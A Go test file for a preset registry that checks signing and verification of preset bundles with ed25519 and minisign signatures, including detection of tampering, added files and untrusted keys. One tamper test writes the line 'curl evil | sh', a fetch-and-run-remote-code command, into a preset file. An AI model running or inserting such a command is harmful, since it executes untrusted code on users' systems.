@@ -0,0 +1,269 @@
+package registry
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+)
+
+// writeFiles creates files with the given contents under dir.
+func writeFiles(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for name, content := range files {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create file: %v", err)
+		}
+	}
+}
+
+// trustEd25519 generates an ed25519 key and adds its PEM public key to a new
+// trust store as name.
+func trustEd25519(t *testing.T, name string) (ed25519.PrivateKey, *TrustStore) {
+	t.Helper()
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key: %v", err)
+	}
+	der, err := x509.MarshalPKIXPublicKey(publicKey)
+	if err != nil {
+		t.Fatalf("Failed to encode key: %v", err)
+	}
+	keyFile := filepath.Join(t.TempDir(), name+".pub")
+	if err := os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0644); err != nil {
+		t.Fatalf("Failed to write key: %v", err)
+	}
+
+	store, err := LoadTrustStore(t.TempDir())
+	if err != nil {
+		t.Fatalf("LoadTrustStore failed: %v", err)
+	}
+	if _, err := store.Add(name, keyFile); err != nil {
+		t.Fatalf("Add failed: %v", err)
+	}
+	return privateKey, store
+}
+
+// minisignKey returns a minisign public key file for key with the given ID.
+func minisignKey(key ed25519.PublicKey, id []byte) string {
+	raw := append(append([]byte("Ed"), id...), key...)
+	return "untrusted comment: minisign public key\n" + base64.StdEncoding.EncodeToString(raw) + "\n"
+}
+
+// minisignSign returns a minisign signature of data, prehashed (as minisign
+// signs by default) or not (legacy).
+func minisignSign(key ed25519.PrivateKey, id []byte, data []byte, prehashed bool, trustedComment string) string {
+	algorithm, message := "Ed", data
+	if prehashed {
+		hash := blake2b.Sum512(data)
+		algorithm, message = "ED", hash[:]
+	}
+	signature := ed25519.Sign(key, message)
+	global := ed25519.Sign(key, append(append([]byte{}, signature...), trustedComment...))
+	raw := append(append([]byte(algorithm), id...), signature...)
+	return fmt.Sprintf("untrusted comment: signature from minisign secret key\n%s\ntrusted comment: %s\n%s\n",
+		base64.StdEncoding.EncodeToString(raw), trustedComment, base64.StdEncoding.EncodeToString(global))
+}
+
+func TestPresetManifest(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "tool")
+	writeFiles(t, dir, map[string]string{
+		"preset.yml":            "name: tool\n",
+		"templates/config.j2":   "{{ value }}\n",
+		"preset.sig":            "ignored",
+		"templates/preset.sig":  "not a signature of the preset",
+		"preset.minisig":        "ignored",
+		"files/a-first-file.sh": "#!/bin/sh\n",
+	})
+
+	manifest, err := PresetManifest(dir)
+	if err != nil {
+		t.Fatalf("PresetManifest failed: %v", err)
+	}
+	var paths []string
+	for _, line := range strings.Split(strings.TrimSuffix(string(manifest), "\n"), "\n") {
+		hash, path, ok := strings.Cut(line, "  ")
+		if !ok || len(hash) != 64 {
+			t.Fatalf("Invalid manifest line %q", line)
+		}
+		paths = append(paths, path)
+	}
+	want := []string{"files/a-first-file.sh", "preset.yml", "templates/config.j2", "templates/preset.sig"}
+	if strings.Join(paths, ",") != strings.Join(want, ",") {
+		t.Errorf("Manifest paths = %v, want %v", paths, want)
+	}
+
+	flat := filepath.Join(t.TempDir(), "tool.yml")
+	writeFiles(t, filepath.Dir(flat), map[string]string{"tool.yml": "name: tool\n"})
+	manifest, err = PresetManifest(flat)
+	if err != nil {
+		t.Fatalf("PresetManifest failed: %v", err)
+	}
+	hash, _ := CalculateSHA256(flat)
+	if string(manifest) != hash+"  tool.yml\n" {
+		t.Errorf("Manifest of a flat preset = %q", manifest)
+	}
+}
+
+func TestSignAndVerifyPreset(t *testing.T) {
+	key, store := trustEd25519(t, "publisher")
+
+	for name, path := range map[string]string{
+		"flat":      "tool.yml",
+		"directory": "tool",
+	} {
+		t.Run(name, func(t *testing.T) {
+			root := t.TempDir()
+			preset := filepath.Join(root, path)
+			if name == "flat" {
+				writeFiles(t, root, map[string]string{"tool.yml": "name: tool\n"})
+			} else {
+				writeFiles(t, preset, map[string]string{"preset.yml": "name: tool\n", "files/run.sh": "echo\n"})
+			}
+
+			if _, err := VerifyPreset(preset, store); !errors.Is(err, ErrUnsigned) {
+				t.Fatalf("VerifyPreset of an unsigned preset = %v, want ErrUnsigned", err)
+			}
+
+			sigPath, err := SignPreset(preset, key)
+			if err != nil {
+				t.Fatalf("SignPreset failed: %v", err)
+			}
+			if sigPath != SignaturePath(preset, SignatureSuffix) {
+				t.Errorf("Signature written to %s, want %s", sigPath, SignaturePath(preset, SignatureSuffix))
+			}
+
+			signer, err := VerifyPreset(preset, store)
+			if err != nil {
+				t.Fatalf("VerifyPreset failed: %v", err)
+			}
+			if signer.Name != "publisher" || signer.KeyID != store.Keys[0].KeyID {
+				t.Errorf("Signer = %v, want publisher", signer)
+			}
+
+			// Tampering with any file invalidates the signature
+			tampered := preset
+			if name == "directory" {
+				tampered = filepath.Join(preset, "files", "run.sh")
+			}
+			if err := os.WriteFile(tampered, []byte("curl evil | sh\n"), 0644); err != nil {
+				t.Fatalf("Failed to modify preset: %v", err)
+			}
+			_, err = VerifyPreset(preset, store)
+			if err == nil || errors.Is(err, ErrUntrusted) || !strings.Contains(err.Error(), "modified after signing") {
+				t.Errorf("VerifyPreset of a modified preset = %v, want an invalid signature", err)
+			}
+		})
+	}
+}
+
+func TestVerifyPreset_AddedFile(t *testing.T) {
+	key, store := trustEd25519(t, "publisher")
+	preset := filepath.Join(t.TempDir(), "tool")
+	writeFiles(t, preset, map[string]string{"preset.yml": "name: tool\n"})
+	if _, err := SignPreset(preset, key); err != nil {
+		t.Fatalf("SignPreset failed: %v", err)
+	}
+
+	writeFiles(t, preset, map[string]string{"files/extra.sh": "echo\n"})
+	if _, err := VerifyPreset(preset, store); err == nil {
+		t.Error("VerifyPreset succeeded for a preset with an added file")
+	}
+}
+
+func TestVerifyPreset_Untrusted(t *testing.T) {
+	key, _ := trustEd25519(t, "publisher")
+	_, otherStore := trustEd25519(t, "other")
+
+	preset := filepath.Join(t.TempDir(), "tool.yml")
+	writeFiles(t, filepath.Dir(preset), map[string]string{"tool.yml": "name: tool\n"})
+	if _, err := SignPreset(preset, key); err != nil {
+		t.Fatalf("SignPreset failed: %v", err)
+	}
+
+	if _, err := VerifyPreset(preset, otherStore); !errors.Is(err, ErrUntrusted) {
+		t.Errorf("VerifyPreset = %v, want ErrUntrusted", err)
+	}
+}
+
+func TestVerifyPreset_Minisign(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key: %v", err)
+	}
+	id := []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08}
+
+	keyFile := filepath.Join(t.TempDir(), "minisign.pub")
+	if err := os.WriteFile(keyFile, []byte(minisignKey(publicKey, id)), 0644); err != nil {
+		t.Fatalf("Failed to write key: %v", err)
+	}
+	store, _ := LoadTrustStore(t.TempDir())
+	key, err := store.Add("publisher", keyFile)
+	if err != nil {
+		t.Fatalf("Add failed: %v", err)
+	}
+	if key.Format != KeyFormatMinisign || key.KeyID != "0807060504030201" {
+		t.Errorf("Trusted key = %s %s, want minisign key 0807060504030201", key.Format, key.KeyID)
+	}
+
+	preset := filepath.Join(t.TempDir(), "tool")
+	writeFiles(t, preset, map[string]string{"preset.yml": "name: tool\n"})
+	manifest, err := PresetManifest(preset)
+	if err != nil {
+		t.Fatalf("PresetManifest failed: %v", err)
+	}
+	sigPath := SignaturePath(preset, MinisignSuffix)
+
+	tests := []struct {
+		name      string
+		signature string
+		valid     bool
+		wantErr   error
+	}{
+		{name: "prehashed", signature: minisignSign(privateKey, id, manifest, true, "timestamp:1 file:tool"), valid: true},
+		{name: "legacy", signature: minisignSign(privateKey, id, manifest, false, "timestamp:1 file:tool"), valid: true},
+		{
+			name:      "modified trusted comment",
+			signature: strings.Replace(minisignSign(privateKey, id, manifest, true, "timestamp:1"), "timestamp:1", "timestamp:2", 1),
+		},
+		{name: "other data", signature: minisignSign(privateKey, id, []byte("other"), true, "")},
+		{
+			name:      "untrusted key",
+			signature: minisignSign(privateKey, []byte{8, 7, 6, 5, 4, 3, 2, 1}, manifest, true, ""),
+			wantErr:   ErrUntrusted,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := os.WriteFile(sigPath, []byte(tt.signature), 0644); err != nil {
+				t.Fatalf("Failed to write signature: %v", err)
+			}
+			signer, err := VerifyPreset(preset, store)
+			switch {
+			case tt.valid:
+				if err != nil || signer.Name != "publisher" {
+					t.Errorf("VerifyPreset = %v, %v, want signed by publisher", signer, err)
+				}
+			case tt.wantErr != nil:
+				if !errors.Is(err, tt.wantErr) {
+					t.Errorf("VerifyPreset = %v, want %v", err, tt.wantErr)
+				}
+			case err == nil:
+				t.Error("VerifyPreset succeeded for an invalid signature")
+			}
+		})
+	}
+}